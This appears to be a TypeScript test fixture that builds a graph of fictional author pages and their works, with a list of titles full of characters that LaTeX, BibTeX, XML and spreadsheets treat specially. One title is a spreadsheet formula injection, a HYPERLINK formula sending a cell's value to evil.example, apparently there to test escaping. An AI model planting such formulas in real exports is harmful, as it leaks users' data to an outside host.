import { mapToQuads } from '../../src/map/map-to-quads.js';
import { resolve } from '../../src/resolve/resolve.js';
import { type EmbeddedStore, openStore } from '../../src/store/embedded-store.js';
import { serialize } from '../../src/store/write-graph.js';
import { hiroTanaka, yueLin } from '../fixtures/yue-lin.js';
import { author, evidence, pageFacts, venue, work } from '../support/page-facts.js';

/** Titles with the signs that each of the formats gives a meaning to. */
export const HARD_TITLES = [
  'C# & 50% of {braces}, $x_1^2$ ~ \\LaTeX{} <tags> | pipes',
  '=HYPERLINK("https://evil.example/?x="&A1;"click")',
  '"Quoted" all over "and at the end"',
  "+1 for 'mRNA': BERT on iOS and the 3D \u{1d4b3}",
  '@article{lind, title = {No}}',
  '理解小型网络 ]]> &amp; more',
] as const;

const mara = pageFacts('mara-lind', ['Mara van der Lind'], {
  url: 'https://mara.example/?a=1&b=2',
  works: HARD_TITLES.map((title, i) =>
    work(title, [author('Mara van der Lind'), author('Søren Åkesson, Jr.'), author('The {Open} & Co. Collaboration'), author('林月')], {
      date: i === 0 ? '2024-05' : '2024',
      venue:
        i < 2
          ? venue('journal', 'Journal of R&D', ['Journal of R&D'], { volume: '7', issue: '1-2', pages: '3-9' })
          : venue('conference', 'CVPR', ['CVPR']),
      identifiers: i === 0 ? [{ scheme: 'doi', value: '10.5555/a_b<c>;2-#', evidence: evidence('DOI') }] : [],
    }),
  ),
});

/** A graph of three fictional pages, one of them with {@link HARD_TITLES}. */
export async function sampleStore(): Promise<EmbeddedStore> {
  const store = openStore();
  store.load(await serialize(mapToQuads(resolve([yueLin, hiroTanaka, mara])), 'nt'), 'nt');
  return store;
}
